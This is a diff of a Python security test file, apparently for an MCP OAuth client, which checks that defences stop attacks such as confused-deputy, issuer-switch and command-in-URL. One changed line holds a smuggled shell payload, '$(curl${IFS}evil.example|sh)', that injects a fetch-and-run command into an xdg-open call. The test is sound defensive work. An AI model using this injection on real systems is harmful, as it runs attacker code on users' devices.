@@ -76,7 +76,7 @@ EXPECTED: dict[str, tuple[dict[str, str], type[McpOAuthError], str]] = {
     "command_in_url": (
         {"started by their scheme": "javascript, file, vscode", "a shell that runs": "$(curl"},
         SecurityError,
-        "is not an http",
+        "must be an http",
     ),
     "confused_deputy": (VICTIM, Refused, 'asked the victim first, with the page "Authorize Free stickers"'),
     "issuer_switch": (VICTIM, Refused, "Nothing that https://mcp.example has given went to https://evil.example"),
@@ -155,7 +155,7 @@ async def test_the_more_that_an_attack_tries_is_stopped_too(ran: Ran) -> None:
         ("localhost_impersonation", "The answer goes to a program on your own device"),
         ("issuer_switch", r"comes to https://evil\.example as a stranger \(\S+, /register\), and asks the person"),
         ("step_up_loop", "asks the person once, in vain"),
-        ("command_in_url", r"becomes the command xdg-open '\S+ -s evil\.example\|sh\)&state=s'$"),
+        ("command_in_url", r"becomes the command xdg-open '\S+=\$\(curl\$\{IFS\}evil\.example\|sh\)&state=s'$"),
     ]
     for name, text in steps:
         outcome = ran.outcome(name, defence=True)
